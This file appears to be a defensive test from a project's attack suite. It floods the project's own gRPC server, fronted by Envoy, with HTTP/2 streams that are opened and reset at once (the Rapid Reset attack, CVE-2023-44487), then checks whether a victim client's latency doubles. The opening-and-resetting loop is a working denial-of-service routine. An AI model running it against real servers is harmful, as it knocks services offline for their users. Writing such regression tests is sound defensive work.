"""F11: streams opened and reset at once (CVE-2023-44487) by a client that connects anew if cut off.

The server alone is VULNERABLE: gRPC's core queues what it has accepted, up to 1,000 calls, and
grpc.aio can neither put another client's call before them nor close a connection. deploy/envoy.yaml
bounds it, so run.py puts Envoy in front; the victim comes through it, too, by a connection of its
own. --log counts the calls that reached the server. --pause waits so many seconds before resetting:
then they are ordinary calls, which a tenant's requests_per_s bounds and Envoy does not. Bound: the
victim's TTFT <= 2 x idle, in the median.
"""

from __future__ import annotations

import time
from pathlib import Path

from tests.attacks.common import (
    GENERATION,
    Probe,
    arguments,
    baseline,
    field,
    number,
    shown,
    verdict,
    worse,
)
from tests.support.http2 import Connection

args = arguments(__doc__, connections=4, log="", pause=0.0)
MESSAGE = field(2, field(1, b"def f(" * 40)) + number(3, 64)


def connected() -> Connection | None:
    try:
        return Connection(args.target, ca_file=args.ca_file)
    except OSError:
        return None


def n_calls() -> int:
    """Returns how many calls the server has got."""
    return Path(args.log).read_bytes().count(b"call method=") if args.log else 0


before = baseline(args.target, args.victim, "tokens", ca_file=args.ca_file)
probe = Probe(args.target, args.victim, "tokens", args.seconds, args.ca_file)
time.sleep(1)
n_before = n_calls()
slots: list[Connection | None] = [None] * min(args.connections, 64)
end, n, n_connected, n_cut = time.monotonic() + args.seconds - 2, 0, 0, 0
while time.monotonic() < end and n < 200_000:
    for i, connection in enumerate(slots):
        if connection is None or connection.is_closed or connection.has_goaway:
            if connection is not None:
                n_cut += 1
                connection.close()
            slots[i] = connected()
            n_connected += slots[i] is not None
            continue
        opened = [connection.open(GENERATION + "Generate", MESSAGE, args.key) for _ in range(20)]
        connection.pump(args.pause)
        for stream in opened:
            connection.reset(stream)
        n += len(opened)
        connection.pump(0.001)
during = probe.result()
for connection in slots:
    if connection is not None:
        connection.close()
verdict(
    "a18_rapid_reset",
    worse(before, during, 2),
    f"{n} streams opened and reset on {n_connected} connections, {n_cut} of them cut off; the"
    f" server saw {n_calls() - n_before} calls, the victim's among them; victim's TTFT"
    f" {shown(before)} -> {shown(during)}",
)
